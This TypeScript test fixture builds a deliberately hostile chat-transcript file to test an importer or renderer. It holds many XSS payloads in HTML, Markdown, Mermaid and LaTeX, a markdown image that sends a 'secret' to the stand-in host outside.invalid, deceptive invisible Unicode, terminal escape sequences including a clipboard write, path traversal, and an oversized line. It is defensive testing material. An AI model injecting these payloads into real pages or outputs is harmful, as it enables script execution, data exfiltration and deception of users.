import type { SourceFile } from "#lib/importers/importer.ts";

// A transcript as an attacker would write one: each text tries to run, to frame, to call out, or to deceive the eye.

/** Where anything that gets out would go; nothing listens there. */
export const OUTSIDE = "https://outside.invalid";

const RUN = "window.__pwned=1;alert(1)";

export const MARKUP = [
  `<script>${RUN}</script>`,
  `"><img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:${RUN}"></iframe><object data="${OUTSIDE}/o"></object><embed src="${OUTSIDE}/e">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<a href="javascript:${RUN}">click</a><form action="${OUTSIDE}/f"><button>go</button></form>`,
  `<base href="${OUTSIDE}/"><meta http-equiv="refresh" content="0;url=${OUTSIDE}/m"><link rel="stylesheet" href="${OUTSIDE}/c.css">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %>`,
  `</textarea></title></style></script><script>${RUN}</script>`,
].join("\n");

export const MARKDOWN = [
  `[click me](javascript:${RUN})`,
  `[and me](JaVa&#10;ScRiPt:${RUN}) [me](data:text/html,<script>${RUN}</script>) [me](vbscript:${RUN}) [me](//outside.invalid/x)`,
  `[form](/api/keys) [ref][1]`,
  `![exfiltration](${OUTSIDE}/i.png?secret=1) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `<javascript:${RUN}> <${OUTSIDE}/autolink>`,
  "```mermaid",
  `graph TD; A["<img src=x onerror=${RUN}>"]; click A "javascript:${RUN}"`,
  "```",
  "```html",
  `<script>${RUN}</script>`,
  "```",
  `| a | b |\n|---|---|\n| <img src=x onerror=${RUN}> | [x](javascript:${RUN}) |`,
  `$$\\href{javascript:${RUN}}{x}$$`,
  `[1]: javascript:${RUN}`,
].join("\n\n");

/** Right-to-left override, isolates, zero-width space and joiner, soft hyphen, tag characters, a byte order mark. */
export const INVISIBLE = "safe\u202Etxt.exe\u2066\u200Bzero\u2060width\u00ADsoft\u{E0041}tag\uFEFF\u061C";

/** Colours, cursor moves, a title change, a hyperlink and a clipboard write. */
export const TERMINAL = [
  "\u001b[31mred\u001b[0m \u001b[2J\u001b[1;1Hwiped",
  "\u001b]0;owned\u0007 \u001b]8;;javascript:alert(1)\u0007link\u001b]8;;\u0007 \u001b]52;c;b3duZWQ=\u0007",
  "line\rover \u0000\u0007\u0008\u009b31m",
].join("\n");

/** In ids and names, where text is short. */
export const NAME = `<img src=x onerror=${RUN}>\u202E"'\`\u200B`;

const LONG_LINE = `${"<b onmouseover=alert(1)>".repeat(4_000)}${"x".repeat(200_000)}`;

/** One OpenAI-messages file under a hostile name; `mark` makes it a run of its own. */
export function hostileRun(mark: string): SourceFile[] {
  const call = (id: string, name: string, args: string) => ({
    role: "assistant",
    content: MARKDOWN,
    tool_calls: [{ id, type: "function", function: { name, arguments: args } }],
  });
  const record = {
    model: NAME,
    tools: [
      { type: "function", function: { name: NAME, description: MARKUP, parameters: { type: "object" } } },
    ],
    messages: [
      { role: "system", content: `${MARKUP}\n${MARKDOWN}` },
      { role: "user", content: `${mark} ${NAME} ${MARKUP}` },
      call(`c1${NAME}`, NAME, JSON.stringify({ command: MARKUP, [NAME]: INVISIBLE, path: `../../${NAME}` })),
      { role: "tool", tool_call_id: `c1${NAME}`, content: `${TERMINAL}\n${MARKUP}\n${INVISIBLE}` },
      call("c2", "terminal", `not json ${MARKUP}`),
      { role: "tool", tool_call_id: "c2", content: LONG_LINE },
      { role: "user", content: `${MARKDOWN}\n\n${INVISIBLE}` },
      { role: "assistant", content: `${MARKDOWN}\n\n${INVISIBLE}\n\n${LONG_LINE}` },
    ],
  };
  return [{ path: `${mark}.json`, bytes: Buffer.from(JSON.stringify(record)) }];
}
